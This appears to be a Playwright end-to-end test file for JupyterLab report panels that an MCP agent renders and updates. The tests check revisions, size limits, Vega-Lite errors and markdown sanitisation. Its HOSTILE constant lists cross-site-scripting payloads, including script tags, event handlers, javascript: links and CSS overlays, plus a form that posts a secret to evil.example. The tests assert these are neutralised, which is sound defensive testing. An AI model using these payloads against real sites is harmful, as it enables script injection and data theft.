/**
 * Report panels end to end: an agent (official TypeScript MCP client) docks
 * markdown, table and chart panels and updates them by id; a cell shows the
 * same artifacts inline with molspace.Panel and the agent updates those by
 * panel id; bounds, stale revisions and Vega-Lite errors come back located;
 * hostile markdown runs no script, navigates nowhere and stays in its box.
 */
import { expect, test } from './sharedLab';
import type { Page } from '@playwright/test';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { call, mcpClient, runCell, setCode, addCode } from './helpers';

/** An MCP client, once this test's page is connected to the gateway. */
async function agent(): Promise<Client> {
  const client = await mcpClient();
  const tools = await client.listTools();
  expect(tools.tools.map(t => t.name)).toContain('render_panel');
  await expect.poll(async () => (await call(client, 'status'))[0].pageConnected, { timeout: 60_000 }).toBe(true);
  return client;
}

function panel(page: Page, panelId: string) {
  return page.locator(`.molspace-panel[data-molspace-panel-id="${panelId}"]`);
}

const SCORES = {
  type: 'table',
  columns: [
    { name: 'ligand', type: 'string' },
    { name: 'score', type: 'number', unit: 'kcal/mol' },
    { name: 'pose', type: 'integer' }
  ],
  rows: [
    ['L10', -6.5, 3],
    ['L2', -8.25, 1],
    ['L1', null, 2],
    ['L3', -7.0, 4]
  ]
};

const ENERGY = {
  $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
  data: { values: [0, 1, 2, 3, 4].map(t => ({ t, e: -100 - t * t })) },
  mark: 'line',
  encoding: { x: { field: 't', type: 'quantitative' }, y: { field: 'e', type: 'quantitative' } }
};

async function columnText(page: Page, panelId: string, column: number): Promise<string[]> {
  return panel(page, panelId).locator(`tbody tr td:nth-child(${column})`).allTextContents();
}

/** Markdown that tries every way out: script, handlers, URLs, SVG, CSS, forms, meta refresh. */
const HOSTILE = [
  '# Hostile',
  '<script>window.__pwned = "script"; alert("script")</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'; alert(\'onerror\')">',
  '<div onmouseover="window.__pwned = \'mouseover\'" class="hostile-hover">hover me</div>',
  '[js link](javascript:window.__pwned=\'js-link\';alert(1))',
  '<a class="hostile-js" href="javascript:window.__pwned=\'js-anchor\'">js anchor</a>',
  '<a class="hostile-data" href="data:text/html,<script>alert(1)</script>">data link</a>',
  '<svg width="20" height="20"><script>window.__pwned = "svg-script"</script><circle r="5" onload="window.__pwned=\'svg-onload\'"/></svg>',
  '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe>',
  '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
  '<style>body { display: none !important } .jp-LabShell { visibility: hidden !important }</style>',
  '<div class="hostile-fixed" style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: red">fixed overlay</div>',
  '<div class="hostile-abs" style="position: absolute; top: -2000px; left: -2000px; width: 9000px; height: 9000px; z-index: 2147483647; background: red">absolute overlay</div>',
  '<form class="hostile-form" action="https://evil.example/steal" method="post"><input name="q" value="secret"><button class="hostile-submit" type="submit">Go</button></form>',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<a class="hostile-http" href="https://evil.example/page">plain link</a>',
  // a tracking pixel: images load only from the Story resource hosts, others become a note
  '![pixel](https://evil.example/pixel.png) <img src="https://evil.example/img.png">'
].join('\n\n');

test.describe('report panels', () => {
  test('an agent docks markdown, a table and a chart, and updates them by id', async ({ page }) => {
    const client = await agent();
    try {
      // markdown: created docked, rendered by JupyterLab's markdown renderer
      const [created, e1] = await call(client, 'render_panel', {
        panelId: 'notes',
        title: 'Findings',
        content: { type: 'markdown', markdown: 'The pose is **stable** over 10 ns.' }
      });
      expect(e1).toBe(false);
      expect(created).toMatchObject({ created: true, panel: { panelId: 'notes', placement: 'docked', type: 'markdown', revision: 1, ready: true } });
      await expect(panel(page, 'notes').locator('.molspace-panel-body strong')).toHaveText('stable');
      await expect(page.locator('.lm-DockPanel-tabBar .lm-TabBar-tab', { hasText: 'Findings' })).toBeVisible();

      // update by id with the right revision, then a stale one
      const [updated] = await call(client, 'render_panel', {
        panelId: 'notes',
        expectedRevision: 1,
        content: { type: 'markdown', markdown: 'Revised: the pose **drifts** after 8 ns.' }
      });
      expect(updated).toMatchObject({ created: false, previousRevision: 1, panel: { revision: 2 } });
      await expect(panel(page, 'notes')).toHaveAttribute('data-molspace-revision', '2');
      await expect(panel(page, 'notes').locator('strong')).toHaveText('drifts');
      const [conflict, isConflict] = await call(client, 'render_panel', {
        panelId: 'notes',
        expectedRevision: 1,
        content: { type: 'markdown', markdown: 'stale' }
      });
      expect(isConflict).toBe(true);
      expect(conflict).toMatchObject({
        code: 'REVISION_CONFLICT',
        where: '/expectedRevision',
        details: { expectedRevision: 1, currentRevision: 2 }
      });
      await expect(panel(page, 'notes').locator('strong')).toHaveText('drifts');

      // a retried actionId is not applied twice
      const retry = { panelId: 'notes', actionId: 'note-3', content: { type: 'markdown', markdown: 'third' } };
      const [first] = await call(client, 'render_panel', retry);
      const [again] = await call(client, 'render_panel', retry);
      expect(first.panel.revision).toBe(3);
      expect(again).toMatchObject({ replayed: true, panel: { revision: 3 } });

      // table: typed columns with units, sortable by a header click
      const [table] = await call(client, 'render_panel', { panelId: 'scores', title: 'Docking scores', content: SCORES });
      expect(table.panel).toMatchObject({ type: 'table', ready: true });
      const scores = panel(page, 'scores');
      await expect(scores.locator('th button')).toHaveText(['ligand', 'score (kcal/mol)', 'pose']);
      await scores.locator('th button', { hasText: 'score' }).click();
      await expect(scores.locator('th').nth(1)).toHaveAttribute('aria-sort', 'ascending');
      expect(await columnText(page, 'scores', 1)).toEqual(['L2', 'L3', 'L10', 'L1']);
      await scores.locator('th button', { hasText: 'score' }).click();
      expect(await columnText(page, 'scores', 1)).toEqual(['L10', 'L3', 'L2', 'L1']);
      await scores.locator('th button', { hasText: 'ligand' }).click();
      expect(await columnText(page, 'scores', 1)).toEqual(['L1', 'L2', 'L3', 'L10']);

      // a table over the row bound is refused, naming the limit
      const [status] = await call(client, 'status');
      expect(status.pageConnected).toBe(true);
      const rows = Array.from({ length: 10_001 }, (_, i) => [`L${i}`, -i, i]);
      const [tooLarge, isTooLarge] = await call(client, 'render_panel', { panelId: 'big', content: { ...SCORES, rows } });
      expect(isTooLarge).toBe(true);
      expect(tooLarge).toMatchObject({ code: 'TOO_LARGE', where: '/content/rows', details: { limit: 'panelTableRows', max: 10_000, size: 10_001 } });
      await expect(panel(page, 'big')).toHaveCount(0);

      // chart: Vega-Lite through JupyterLab's Vega renderer
      const [chart, e2] = await call(client, 'render_panel', { panelId: 'energy', title: 'Energy', content: { type: 'chart', spec: ENERGY } });
      expect(e2).toBe(false);
      expect(chart.panel).toMatchObject({ type: 'chart', ready: true });
      await expect(panel(page, 'energy').locator('.jp-RenderedVegaLite canvas, .jp-RenderedVegaLite svg').first()).toBeVisible();

      // a Vega-Lite error is located at the bad property, and nothing changes
      const [bad, isBad] = await call(client, 'render_panel', {
        panelId: 'energy',
        content: { type: 'chart', spec: { ...ENERGY, mark: 'lin' } }
      });
      expect(isBad).toBe(true);
      expect(bad).toMatchObject({ code: 'VALIDATION_FAILED', where: '/content/spec/mark' });
      expect(bad.details.allowed).toContain('line');
      const [badEncoding] = await call(client, 'render_panel', {
        panelId: 'energy',
        content: { type: 'chart', spec: { ...ENERGY, encoding: { ...ENERGY.encoding, x: { field: 't', type: 'quantitative', colour: 'red' } } } }
      });
      expect(badEncoding).toMatchObject({ code: 'VALIDATION_FAILED', where: '/content/spec/encoding/x/colour', details: { property: 'colour' } });
      // valid by the schema, refused by Vega itself (a field name Vega reads as a nested path): located, not INTERNAL
      const [badField, isBadField] = await call(client, 'render_panel', {
        panelId: 'energy',
        content: { type: 'chart', spec: { ...ENERGY, encoding: { ...ENERGY.encoding, x: { field: 'a[', type: 'quantitative' } } } }
      });
      expect(isBadField).toBe(true);
      expect(badField).toMatchObject({ code: 'VALIDATION_FAILED', where: '/content/spec/encoding/x/field' });
      expect(badField.details.vegaMessage).toContain('a[');
      // the chart shown before stays, with its revision, and the panel reports no error
      await expect(panel(page, 'energy').locator('.jp-RenderedVegaLite canvas, .jp-RenderedVegaLite svg').first()).toBeVisible();
      const [afterBad] = await call(client, 'observe');
      expect(afterBad.widgets.find((w: any) => w.id === 'energy')).toMatchObject({ ready: true, revision: 1, error: null });
      await expect(panel(page, 'energy')).toHaveAttribute('data-molspace-revision', '1');

      // observe lists the panels
      const [observed] = await call(client, 'observe');
      const panels = observed.widgets.filter((w: any) => w.kind === 'panel').map((w: any) => w.id);
      expect(panels).toEqual(['notes', 'scores', 'energy']);
      expect(observed.widgets.find((w: any) => w.id === 'scores').summary).toContain('4 rows × 3 columns');

      // at most 8 docked panels per page
      for (let i = 4; i <= 8; i++) {
        const [, err] = await call(client, 'render_panel', { panelId: `p${i}`, content: { type: 'markdown', markdown: `#${i}` } });
        expect(err).toBe(false);
      }
      const [ninth, isNinth] = await call(client, 'render_panel', { panelId: 'p9', content: { type: 'markdown', markdown: '#9' } });
      expect(isNinth).toBe(true);
      expect(ninth).toMatchObject({ code: 'TOO_LARGE', details: { limit: 'dockedPanels', max: 8 } });
      // closing one makes room
      await page.locator('.lm-TabBar-tab', { hasText: 'Findings' }).locator('.lm-TabBar-tabCloseIcon').click();
      await expect(panel(page, 'notes')).toHaveCount(0);
      const [, stillFull] = await call(client, 'render_panel', { panelId: 'p9', content: { type: 'markdown', markdown: '#9' } });
      expect(stillFull).toBe(false);
    } finally {
      await client.close();
    }
  });

  test('a cell shows markdown, a DataFrame and an Altair chart inline; the agent updates them by panel id', async ({ page, tmpPath }) => {
    await page.notebook.createNew('panels.ipynb');
    await setCode(
      page,
      0,
      [
        'import molspace, pandas as pd, altair as alt',
        'notes = molspace.Panel("A **finding** from the cell.", title="Notes", panel_id="cell-notes")',
        'notes'
      ].join('\n')
    );
    await page.notebook.runCell(0, true);
    const notes = panel(page, 'cell-notes');
    await expect(notes).toHaveAttribute('data-molspace-ready', 'true', { timeout: 60_000 });
    await expect(notes.locator('strong')).toHaveText('finding');
    await expect(page.locator('.molspace-panel-inline')).toHaveCount(1);

    const df = [
      'df = pd.DataFrame({"ligand": ["L1", "L2", "L3"], "score": [-7.1, -9.3, -8.0]})',
      'scores = molspace.Panel(df, title="Scores", panel_id="cell-scores", units={"score": "kcal/mol"})',
      'scores'
    ].join('\n');
    await addCode(page, df);
    await page.notebook.runCell(1, true);
    const scores = panel(page, 'cell-scores');
    await expect(scores.locator('th button')).toHaveText(['ligand', 'score (kcal/mol)']);
    await scores.locator('th button', { hasText: 'score' }).click();
    await expect(scores.locator('tbody tr td:nth-child(1)')).toHaveText(['L2', 'L3', 'L1']);

    const chart = [
      'trace = pd.DataFrame({"step": range(5), "energy": [-100.0, -104.0, -106.5, -107.0, -107.2]})',
      'molspace.Panel(alt.Chart(trace).mark_line().encode(x="step", y="energy"), title="Energy", panel_id="cell-energy")'
    ].join('\n');
    await addCode(page, chart);
    await page.notebook.runCell(2, true);
    await expect(panel(page, 'cell-energy').locator('.jp-RenderedVegaLite canvas, .jp-RenderedVegaLite svg').first()).toBeVisible();

    // a bad Vega-Lite spec from Python: the panel shows the located error, the kernel has it
    await addCode(page, 'bad = molspace.Panel({"mark": "barr", "data": {"values": []}}, panel_id="cell-bad")\nbad');
    await page.notebook.runCell(3, true);
    const bad = panel(page, 'cell-bad');
    await expect(bad.locator('.molspace-panel-error')).toContainText('VALIDATION_FAILED');
    await expect(bad.locator('.molspace-panel-error-where')).toHaveText('Where: /content/spec/mark');
    expect(await runCell(page, 'print(bad.error["code"], bad.error["where"])')).toBe('VALIDATION_FAILED /content/spec/mark');

    // the saved outputs carry a static copy beside the widget view, for viewers without molspace
    await page.notebook.save();
    const saved = await (await page.request.get(`/api/contents/${tmpPath}/panels.ipynb?content=1`)).json();
    const bundles = saved.content.cells.slice(0, 3).map((c: any) => c.outputs[0].data);
    // (and the static-fallback marker; the page's own fallback may add more once it has settled:
    // staticFallback.spec.ts checks that)
    const kernelStatic = [
      ['application/vnd.jupyter.widget-view+json', 'text/markdown', 'text/plain'],
      ['application/vnd.jupyter.widget-view+json', 'text/html', 'text/plain'],
      ['application/vnd.jupyter.widget-view+json', 'application/vnd.vegalite.v5+json', 'text/plain']
    ];
    expect(bundles).toHaveLength(3);
    bundles.forEach((b: any, i: number) =>
      expect(Object.keys(b)).toEqual(expect.arrayContaining([...kernelStatic[i], 'application/vnd.molspace.static+json']))
    );
    expect(bundles[0]['text/markdown']).toContain('A **finding** from the cell.');
    expect(bundles[1]['text/html']).toContain('<th>score (kcal/mol)</th>');

    const client = await agent();
    try {
      const [observed] = await call(client, 'observe');
      const inline = observed.widgets.filter((w: any) => w.kind === 'panel');
      expect(inline.map((w: any) => w.summary)).toEqual(expect.arrayContaining([expect.stringContaining('inline panel "cell-notes"')]));

      // the agent replaces the cell's panel by its panel id; the kernel sees it
      const [updated, err] = await call(client, 'render_panel', {
        panelId: 'cell-notes',
        expectedRevision: 0,
        content: { type: 'markdown', markdown: 'Agent: the **hinge** contact holds.' }
      });
      expect(err).toBe(false);
      expect(updated).toMatchObject({ created: false, panel: { placement: 'inline', revision: 1 } });
      await expect(notes.locator('strong')).toHaveText('hinge');
      expect(await runCell(page, 'print(notes.revision, notes.content["markdown"], notes.last_change["source"])')).toBe(
        '1 Agent: the **hinge** contact holds. agent'
      );

      // the cell's update with a stale revision is refused; the agent's content stays
      await runCell(page, 'notes.update("from the cell", expected_revision=0)');
      await expect
        .poll(() => runCell(page, 'print((notes.last_result or {}).get("error", {}).get("code"))'))
        .toBe('REVISION_CONFLICT');
      await expect(notes.locator('strong')).toHaveText('hinge');
      await runCell(page, 'notes.update("from the **cell**", expected_revision=1)');
      await expect(notes.locator('strong')).toHaveText('cell');
      const [after] = await call(client, 'observe');
      expect(after.widgets.find((w: any) => w.summary.includes('"cell-notes"')).revision).toBe(2);

      // an agent cannot open a new inline panel; placement cannot change
      const [noInline] = await call(client, 'render_panel', { panelId: 'nope', placement: 'inline', content: { type: 'markdown', markdown: 'x' } });
      expect(noInline).toMatchObject({ code: 'NOT_FOUND', where: '/panelId' });
      const [moved] = await call(client, 'render_panel', { panelId: 'cell-notes', placement: 'docked', content: { type: 'markdown', markdown: 'x' } });
      expect(moved).toMatchObject({ code: 'INVALID_INPUT', where: '/placement' });
    } finally {
      await client.close();
    }
  });

  /** Watch a page for script, dialogs, popups, navigation and requests to evil.example. */
  async function watch(page: Page) {
    const seen = { dialogs: [] as string[], popups: [] as string[], outside: [] as string[] };
    page.on('dialog', d => {
      seen.dialogs.push(d.message());
      void d.dismiss();
    });
    page.context().on('page', p => seen.popups.push(p.url()));
    await page.route(/evil\.example/, route => {
      seen.outside.push(route.request().url());
      return route.abort();
    });
    return seen;
  }

  /** Poke every hostile element of the panel, then check nothing ran, navigated or escaped its box. */
  async function expectHarmless(page: Page, panelId: string, seen: Awaited<ReturnType<typeof watch>>) {
    const box = panel(page, panelId);
    await expect(box.locator('h1')).toContainText('Hostile');
    const startUrl = page.url();
    const body = box.locator('.molspace-panel-body');

    // no script, handler, iframe, object or style survived the sanitizer
    expect(await body.locator('script, iframe, object, embed, style, meta, [onerror], [onload], [onmouseover]').count()).toBe(0);
    expect(await body.locator('a[href^="javascript:"], a[href^="data:"]').count()).toBe(0);
    expect(await body.locator('img[src*="evil.example"]').count()).toBe(0);
    // the two evil.example images and the relative `src="x"` one
    expect(await body.locator('.molspace-refused-image').count()).toBe(3);
    // The overlay inside the box covers its links: events are dispatched to them directly
    // (an anchor's click event runs its navigation, as a real click does).
    await box.locator('.hostile-hover').dispatchEvent('mouseover');
    for (const link of await body.locator('a').all()) {
      if (!(await link.getAttribute('href'))?.startsWith('https://')) {
        await link.dispatchEvent('click');
      }
    }
    // a form submitted from inside the panel does not leave the page
    await body.evaluate(node => node.querySelector('form')?.requestSubmit());

    // the page still works, nothing ran, nothing navigated
    const state = await page.evaluate(() => ({
      pwned: (window as any).__pwned,
      bodyDisplay: getComputedStyle(document.body).display,
      shellVisibility: getComputedStyle(document.querySelector('.jp-LabShell')!).visibility
    }));
    expect(state).toEqual({ pwned: undefined, bodyDisplay: 'block', shellVisibility: 'visible' });
    expect(seen.dialogs).toEqual([]);
    expect(seen.popups).toEqual([]);
    // (a #fragment link, like the heading's anchor, stays on the page)
    expect(page.url().split('#')[0]).toBe(startUrl.split('#')[0]);
    expect(seen.outside).toEqual([]);

    // nothing paints outside the panel's box: the top-left corner and left of the box are JupyterLab's
    const rect = (await body.boundingBox())!;
    const hits = await page.evaluate(
      ([x, y]) => [document.elementFromPoint(2, 2), document.elementFromPoint(x, y)].map(e => !!e?.closest('.molspace-panel-body')),
      [Math.max(rect.x - 20, 1), rect.y + rect.height / 2]
    );
    expect(hits).toEqual([false, false]);
    // the panel's own title, just above the body, is not covered either
    await box.locator('.molspace-panel-title').scrollIntoViewIfNeeded();
    const title = (await box.locator('.molspace-panel-title').boundingBox())!;
    const onTitle = await page.evaluate(([x, y]) => {
      const hit = document.elementFromPoint(x, y);
      return hit?.closest('.molspace-panel-title') ? 'title' : `${hit?.tagName}.${hit?.className}`;
    }, [title.x + 5, title.y + title.height / 2]);
    expect(onTitle).toBe('title');
  }

  test('a #fragment link in a markdown panel scrolls within the panel and opens no second JupyterLab', async ({ page }) => {
    const client = await agent();
    try {
      const filler = Array.from({ length: 80 }, (_, i) => `Line ${i} of the findings.`).join('\n\n');
      const [shown, err] = await call(client, 'render_panel', {
        panelId: 'long',
        content: { type: 'markdown', markdown: `# Results\n\n${filler}\n\n[Back to the results](#Results)` }
      });
      expect(err).toBe(false);
      expect(shown.panel.ready).toBe(true);
      const heading = panel(page, 'long').locator('h1', { hasText: 'Results' });
      const link = panel(page, 'long').locator('a', { hasText: 'Back to the results' });
      await link.scrollIntoViewIfNeeded();
      await expect(heading).not.toBeInViewport();
      const pages = page.context().pages().length;
      const at = page.url();
      await link.click();
      await expect(heading).toBeInViewport();
      expect(page.context().pages().length).toBe(pages);
      expect(page.url()).toBe(at);
      const [status] = await call(client, 'status');
      expect(status.pages).toHaveLength(1);
    } finally {
      await client.close();
    }
  });

  test('hostile markdown in a docked panel runs no script, navigates nowhere and stays in its box', async ({ page }) => {
    const seen = await watch(page);
    const client = await agent();
    try {
      const [shown, err] = await call(client, 'render_panel', { panelId: 'hostile', title: 'Hostile input', content: { type: 'markdown', markdown: HOSTILE } });
      expect(err).toBe(false);
      expect(shown.panel.ready).toBe(true);
      await expectHarmless(page, 'hostile', seen);
      // after all that, the panel still answers
      const [again] = await call(client, 'render_panel', { panelId: 'hostile', content: { type: 'markdown', markdown: 'calm' } });
      expect(again.panel.revision).toBe(2);
      expect(await page.evaluate(() => (window as any).__pwned)).toBeUndefined();
    } finally {
      await client.close();
    }
  });

  test('hostile markdown in a cell\'s inline panel runs no script, navigates nowhere and stays in its box', async ({ page }) => {
    const seen = await watch(page);
    await page.notebook.createNew('hostile.ipynb');
    // The markdown reaches Python as JSON text, so no character of it is Python syntax.
    const source = `import json, molspace\nmolspace.Panel(json.loads(${JSON.stringify(JSON.stringify(HOSTILE))}), title="Hostile input", panel_id="hostile-cell")`;
    await setCode(page, 0, source);
    await page.notebook.runCell(0, true);
    await expect(panel(page, 'hostile-cell')).toHaveAttribute('data-molspace-ready', 'true', { timeout: 60_000 });
    await expectHarmless(page, 'hostile-cell', seen);
  });
});
